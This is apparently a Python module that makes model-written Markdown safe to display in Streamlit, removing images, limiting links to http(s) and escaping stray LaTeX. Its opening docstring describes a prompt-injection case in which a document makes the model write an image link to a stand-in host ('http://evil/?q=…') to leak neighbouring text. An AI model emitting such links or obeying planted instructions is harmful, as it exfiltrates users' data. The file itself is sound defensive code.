"""Text of models and documents made fit for Streamlit: no images, web links only, no accidental LaTeX.

A document can try to send its neighbours' text out by having the model write `![](http://evil/?q=…)`.
Streamlit already draws raw HTML as text; images and links are dealt with here, and the page's content policy
(page.js) stops the browser from loading anything remote should something slip through.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from itertools import count

from markdown_it import MarkdownIt

from docmind.verification.sentences import expand

_PUNCTUATION = re.compile(r"([\\`*_{}\[\]()<>#+\-.!|~$:^=&])")
_ALLOWED = ("http://", "https://", "mailto:", "#cite-", "#unverified-")
_JOINER = "\u2060"  # invisible; keeps "!" and "[" of code apart

# What may stand in prose and must be left whole or changed, in the order in which Markdown reads it.
_INLINE = re.compile(
    r"""
    (?P<escaped>\\[!-/:-@\[-`{-~])
  | (?P<code>(?<!`)(?P<ticks>`+)(?!`)(?:(?!\n\s*\n).)+?(?<!`)(?P=ticks)(?!`))
  | (?P<display>\$\$(?P<display_body>(?:(?!\n\s*\n).)+?)\$\$)
  | (?P<math>(?<![\w$])\$(?P<body>[^\s$](?:[^$\n]{0,200}?[^\s$\\])?)\$(?![\w$]))
  | (?P<dollar>\$)
  | (?P<image>!(?=\[))
  | (?P<directive>:(?=[\w/-]*[\[:]))
  | (?P<definition>^[ \t>]*\[[^\]\n]+\](?=:))
  | (?P<marker>\[\s*(?P<numbers>\d{1,3}(?:\s*[,;\u2013-]\s*\d{1,3})*)\s*\](?!\()(?!\[(?!\d)))
    """,
    re.VERBOSE | re.DOTALL | re.MULTILINE,
)
_TEX_BRACKETS = re.compile(r"\\\((.+?)\\\)|\\\[(.+?)\\\]", re.DOTALL)
_LINK = re.compile(r"(?<!\\)\[((?:[^\[\]\\]|\\.|\[[^\[\]]*\])*)\]\(\s*<?([^)\s>]*)>?[^)\n]*\)")


def plain(text: str) -> str:
    """Return `text` so that Streamlit draws it letter by letter: for names, titles and tasks in labels."""
    return _PUNCTUATION.sub(r"\\\1", " ".join(text.split()))


def safe(text: str, cite: Callable[[int, int], str] | None = None) -> str:
    """Return Markdown that shows `text` without images, with http(s) links only, and prices as prices.

    Args:
        text: Markdown as a model wrote it, possibly unfinished.
        cite: called with (number, how many markers came before) for each number of `[1]`, `[1, 2]` and `[1-3]`;
            returns its Markdown.
    """
    seen = count()

    def prose(part: str) -> str:
        part = _TEX_BRACKETS.sub(
            lambda m: f"${m[1].strip()}$" if m[1] else f"$${m[2].strip()}$$", part
        )
        return _INLINE.sub(lambda match: _inline(match, cite, seen), _LINK.sub(_link, part))

    shown = "".join(part if code else prose(part) for code, part in _runs(text))
    return shown if _harmless(shown) else plain_block(text)


def markers(text: str) -> list[int]:
    """Return the numbers that `safe` draws with `cite`, in the order in which it counts them."""
    found: list[int] = []

    def collect(number: int, _position: int) -> str:
        found.append(number)
        return "x"

    safe(text, collect)
    return found


def plain_block(text: str) -> str:
    """Return Markdown that shows `text` as it is, line breaks included."""
    return "  \n".join(_PUNCTUATION.sub(r"\\\1", line.strip()) for line in text.splitlines())


def _inline(
    match: re.Match[str], cite: Callable[[int, int], str] | None, seen: Iterator[int]
) -> str:
    whole = match[0]
    if match["code"] or match["display"] or (match["math"] and _is_math(match["body"])):
        return whole.replace("![", f"!{_JOINER}[")
    if match["math"]:
        return whole.replace("$", "\\$").replace("![", "&#33;[")
    if match["marker"] and cite is not None:
        return "".join(cite(n, next(seen)) for n in expand(match["numbers"])) or whole
    if match["image"]:
        return "&#33;"
    if match["dollar"] or match["directive"] or match["definition"]:
        at = len(whole) - len(whole.lstrip(" \t>"))
        return f"{whole[:at]}\\{whole[at:]}"
    return whole


def _is_math(body: str) -> bool:
    """Tell `$x^2$` from "$5 or 6$": what starts like a price needs a mathematical sign."""
    return (
        bool(re.search(r"[\\^_={}]", body))
        if body[0].isdigit()
        else not re.search(r"\w{4,} \w{3,}", body)
    )


def _link(match: re.Match[str]) -> str:
    label, target = match[1], match[2]
    if match.start() and match.string[match.start() - 1] == "!":
        return f"[{label}]"  # an image: its "!" is dealt with later, its address is gone
    if label.isdigit() and not target.lower().startswith("http"):
        return match[0].replace("](", "] (")  # a citation before a remark in brackets
    return match[0] if target.lower().startswith(("http://", "https://")) else label


def _runs(text: str) -> Iterator[tuple[bool, str]]:
    """Split `text` into (is fenced code, lines) runs."""
    lines, at = (
        re.findall(r"[^\r\n]*(?:\r\n?|\n)|[^\r\n]+", text),
        0,
    )  # the lines that Markdown counts
    for token in MarkdownIt("commonmark").parse(text):
        if token.type == "fence" and token.map:
            first, end = token.map
            yield False, "".join(lines[at:first])
            yield True, "".join(lines[first:end])
            at = end
    yield False, "".join(lines[at:])


def _harmless(markdown: str) -> bool:
    """Read the result as the browser will, and refuse what should not be there."""
    for block in MarkdownIt("commonmark").parse(markdown):
        for token in block.children or ():
            href = str(token.attrGet("href") or "") if token.type == "link_open" else ""
            if token.type == "image" or (href and not href.lower().startswith(_ALLOWED)):
                return False
    return True
